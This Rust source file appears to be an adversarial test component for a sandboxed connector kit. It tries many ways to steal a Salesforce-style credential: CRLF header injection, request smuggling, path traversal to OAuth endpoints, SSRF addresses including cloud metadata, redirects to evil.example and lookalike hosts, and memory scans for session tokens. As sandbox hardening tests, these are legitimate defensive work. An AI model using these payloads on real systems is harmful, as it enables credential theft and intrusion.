//! The ways in which the thief tries.

use std::io::Read;

use pbx_connector_kit::base_types::SettingValue;
use pbx_connector_kit::context::Context;
use pbx_connector_kit::wasi::http::types::{Fields, Method, Scheme};

use crate::loot::Loot;
use crate::raw::{self, Ask};

/// The one path that is declared: a page that repeats what it was sent, `?as=` says in which writing.
pub const ECHO: &str = "/services/apexrest/echo";

pub fn attempt(context: &Context) -> Loot {
    let mut loot = Loot::default();
    let way = setting(context, "way");
    match way.split_once(':') {
        Some(("echo", writing)) => loot.add(format!("echo {:?}", echo(context, writing))),
        _ => match way.as_str() {
            "surroundings" => surroundings(&mut loot),
            "context" => loot.add(format!("{context:?}")),
            "headers" => headers(context, &mut loot),
            "read-back" => read_back(context, &mut loot),
            "smuggle" => smuggle(context, &mut loot),
            "undeclared" => undeclared(context, &mut loot),
            "elsewhere" => elsewhere(context, &mut loot),
            "declared-elsewhere" => declared_elsewhere(context, &mut loot),
            "paths" => paths(context, &mut loot),
            "memory" => memory(context, &mut loot),
            _ => loot.add(format!("there is no way {way:?}")),
        },
    }
    loot
}

fn setting(context: &Context, key: &str) -> String {
    let value = context.settings.iter().find(|setting| setting.key == key).map(|setting| setting.value.clone());
    if let Some(SettingValue::Text(text)) = value { text } else { String::new() }
}

fn parts(address: &str) -> (Scheme, &str) {
    match address.split_once("://") {
        Some(("http", authority)) => (Scheme::Http, authority),
        Some(("https", authority)) => (Scheme::Https, authority),
        Some((scheme, authority)) => (Scheme::Other(scheme.to_owned()), authority),
        None => (Scheme::Https, address),
    }
}

fn get(address: &str, path: &str, headers: Fields) -> Result<String, String> {
    let (scheme, authority) = parts(address);
    Ask { method: Method::Get, scheme, authority, path, headers, body: b"" }.send()
}

fn echo(context: &Context, writing: &str) -> Result<String, String> {
    get(&context.base, &format!("{ECHO}?as={writing}"), Fields::new())
}

/// What lies around.
fn surroundings(loot: &mut Loot) {
    let environment: Vec<(String, String)> = std::env::vars().collect();
    let arguments: Vec<String> = std::env::args().collect();
    let mut input = String::new();
    let read = std::io::stdin().read_to_string(&mut input);
    loot.add(format!("environment {environment:?} arguments {arguments:?} input {read:?} {input:?}"));
}

/// Headers that are not a connector's: before the request is made, while it is made, and after.
fn headers(context: &Context, loot: &mut Loot) {
    let fields = Fields::new();
    for name in [
        "authorization",
        "Authorization",
        "AUTHORIZATION",
        "cookie",
        "host",
        "connection",
        "transfer-encoding",
        "proxy-authorization",
        "Proxy-Connection",
        "accept-encoding",
        "Range",
        "te",
        "upgrade",
        "expect",
    ] {
        let value = b"Bearer stolen".to_vec();
        let listed = Fields::from_list(&[(name.to_owned(), value.clone())]).map(drop);
        loot.add(format!("{name} {:?} {:?} {listed:?}", fields.append(name, &value), fields.set(name, &[value.clone()])));
    }
    // A second header in the first one's value, or in its name.
    let two = b"a\r\nauthorization: Bearer stolen".to_vec();
    loot.add(format!("two-lines {:?}", fields.append("x-a", &two)));
    loot.add(format!("two-names {:?}", fields.append("x-a\r\nauthorization", b"Bearer stolen")));
    let (scheme, authority) = parts(&context.base);
    let path = format!("{ECHO}?as=plain");
    let ask = Ask { method: Method::Get, scheme, authority, path: &path, headers: fields, body: b"" };
    match ask.prepare() {
        Ok(request) => {
            loot.add(format!("made {:?}", request.headers().append("authorization", b"Bearer stolen")));
            loot.add(format!("echo {:?}", raw::start(request, b"").and_then(raw::take)));
        }
        Err(why) => loot.add(why),
    }
}

/// The request's own headers after the host has added what it adds.
fn read_back(context: &Context, loot: &mut Loot) {
    let fields = Fields::new();
    let _ = fields.append("x-mine", b"1");
    let copy = fields.clone();
    let (scheme, authority) = parts(&context.base);
    let path = format!("{ECHO}?as=nothing");
    let ask = Ask { method: Method::Get, scheme, authority, path: &path, headers: fields, body: b"" };
    let sent = ask.prepare().and_then(|request| raw::start(request, b"")).and_then(raw::take);
    loot.add(format!("sent {sent:?} copy {:?} {:?}", copy.entries(), copy.get("authorization")));
    // The same with a handle to the request's own: the host may refuse to send that.
    let (scheme, authority) = parts(&context.base);
    let ask = Ask { method: Method::Get, scheme, authority, path: &path, headers: Fields::new(), body: b"" };
    if let Ok(request) = ask.prepare() {
        let own = request.headers();
        let sent = raw::start(request, b"").and_then(raw::take);
        loot.add(format!("sent {sent:?} own {:?} {:?}", own.entries(), own.has("authorization")));
    }
}

/// One request inside another: its length is told wrong.
fn smuggle(context: &Context, loot: &mut Loot) {
    let fields = Fields::new();
    for (name, value) in [("content-length", "0"), ("Content-Length", "1"), ("transfer-encoding", "chunked")] {
        loot.add(format!("{name} {:?}", fields.append(name, value.as_bytes())));
    }
    let (scheme, authority) = parts(&context.base);
    let path = format!("{ECHO}?as=plain");
    let body = format!("GET /services/oauth2/userinfo HTTP/1.1\r\nhost: {authority}\r\n\r\n");
    let ask = Ask { method: Method::Get, scheme, authority, path: &path, headers: fields, body: body.as_bytes() };
    loot.add(format!("echo {:?}", ask.send()));
}

/// What the account's host has beside the declared path.
fn undeclared(context: &Context, loot: &mut Loot) {
    let (scheme, authority) = parts(&context.base);
    for (method, path) in [
        (Method::Post, "/services/oauth2/token"),
        (Method::Post, "/services/oauth2/introspect"),
        (Method::Post, "/services/oauth2/revoke"),
        (Method::Get, "/services/oauth2/revoke?token=x"),
        (Method::Get, "/services/oauth2/userinfo"),
        (Method::Get, "/services/oauth2/authorize?response_type=code"),
        (Method::Get, "/id/00D/005"),
        (Method::Get, "/services/data/v66.0/limits"),
        (Method::Get, "/"),
        (Method::Get, "/services/apexrest/echo/more"),
        (Method::Post, ECHO),
        (Method::Put, ECHO),
        (Method::Patch, ECHO),
        (Method::Delete, ECHO),
        (Method::Head, ECHO),
        (Method::Options, ECHO),
        (Method::Trace, ECHO),
        (Method::Connect, ECHO),
        (Method::Other("get".to_owned()), ECHO),
    ] {
        let body = b"grant_type=refresh_token&client_id=x";
        let ask = Ask { method: method.clone(), scheme: scheme.clone(), authority, path, headers: Fields::new(), body };
        loot.add(format!("{method:?} {path} {:?}", ask.send()));
    }
}

/// Other hosts than the account's: whoever answers there would see the credential.
fn elsewhere(context: &Context, loot: &mut Loot) {
    let host = context.base.split_once("://").map_or("", |(_, host)| host);
    let secure = format!("https://{host}");
    let around = [
        format!("http://{host}:8080"),
        format!("http://{host}."),
        format!("http://{host}.evil.example"),
        format!("http://evil{host}"),
        format!("http://user@{host}"),
        format!("http://{host}@evil.example"),
        format!("http://{host}\\@evil.example"),
        format!("http://{host}%2eevil.example"),
        format!("ftp://{host}"),
    ];
    let far = [
        "https://evil.example",
        "https://login.salesforce.com",
        "https://other.my.salesforce.com",
        "https://evilsalesforce.com",
        "https://other.my.salesforce.com.evil.example",
        "http://127.0.0.1",
        "http://127.0.0.1:8080",
        "http://[::1]",
        "http://169.254.169.254",
        "http://0x7f000001",
        "http://2130706433",
        "http://017700000001",
        "http://localhost",
        "https://xn--e1afmkfd.example",
        "https://\u{0435}xample.my.salesforce.com",
    ];
    for address in [secure].into_iter().chain(around).chain(far.map(str::to_owned)) {
        loot.add(format!("{address} {:?}", get(&address, &format!("{ECHO}?as=plain"), Fields::new())));
    }
}

/// A host that the connector's own declaration names by a setting.
fn declared_elsewhere(context: &Context, loot: &mut Loot) {
    let address = setting(context, "elsewhere");
    loot.add(format!("{address} {:?}", get(&address, &format!("{ECHO}?as=plain"), Fields::new())));
}

/// The declared path as the beginning of another one.
fn paths(context: &Context, loot: &mut Loot) {
    for path in [
        "/services/apexrest/../oauth2/userinfo",
        "/services/apexrest/echo/../../oauth2/userinfo",
        "/services/apexrest/echo/./../../oauth2/token",
        "/services/apexrest/%2e%2e/oauth2/userinfo",
        "/services/apexrest/%2E%2E/oauth2/userinfo",
        "/services/apexrest/.%2e/oauth2/userinfo",
        "/services/apexrest/echo%2f..%2f..%2foauth2/userinfo",
        "/services/apexrest/echo%2F%2e%2e%2f%2e%2e%2Foauth2/userinfo",
        "/services/apexrest/echo%5c..%5c..%5coauth2/userinfo",
        "/services/apexrest/echo\\..\\..\\oauth2\\userinfo",
        "/services/apexrest/%252e%252e/oauth2/userinfo",
        "/services/apexrest/echo;/../../oauth2/userinfo",
        "/services/apexrest/echo;x",
        "/services/apexrest/ech%6f/../../oauth2/userinfo",
        "/services/apexrest/echo%00/../../oauth2/userinfo",
        "//evil.example/services/apexrest/echo",
        "http://evil.example/services/apexrest/echo",
        "@evil.example/services/apexrest/echo",
        ":8080/services/apexrest/echo",
        "/services/apexrest/echo HTTP/1.1\r\nauthorization: x",
    ] {
        loot.add(format!("{path} {:?}", get(&context.base, path, Fields::new())));
    }
}

/// Whatever of an exchange stays in the component's own memory.
fn memory(context: &Context, loot: &mut Loot) {
    for writing in ["plain", "header"] {
        let whole = echo(context, writing).map(|told| told.len());
        loot.add(format!("asked {writing} {:?}", whole.map(|length| length > 100)));
    }
    // Made here, so that this text stands nowhere else: it shows that the search below sees what is there.
    let mut own: String = std::hint::black_box("00D").to_owned();
    own.extend((0..12).map(|at| char::from(b'a' + at)));
    own.push_str("!own");
    let own = std::hint::black_box(own);
    let all = everything();
    let mut found = 0;
    let mut mine = 0;
    for (at, window) in all.windows(16).enumerate() {
        let session = window.starts_with(b"00D") && window.ends_with(b"!") && window.iter().skip(3).take(12).all(u8::is_ascii_alphanumeric);
        if session && all.get(at + 16..at + 19) == Some(b"own") {
            mine += 1;
        } else if session {
            found += 1;
            loot.add(format!("found {}", String::from_utf8_lossy(all.get(at..at + 120).unwrap_or_default())));
        }
    }
    loot.add(format!("searched {} found {found} mine {} {}", all.len() >= 65_536, mine > 0, own.len()));
}

/// The component's whole linear memory, from its first byte to its last, as it was before this copy.
#[allow(unsafe_code, reason = "a thief keeps to no rules: it reads memory that is not its to read, as far as the sandbox lets it")]
fn everything() -> Vec<u8> {
    let length = core::arch::wasm32::memory_size::<0>() * 65_536;
    let mut copy = Vec::with_capacity(length);
    for address in 1..length {
        // SAFETY: all of the component's memory up to its size can be read, and nothing else runs meanwhile.
        copy.push(unsafe { core::ptr::read_volatile(address as *const u8) });
    }
    copy
}
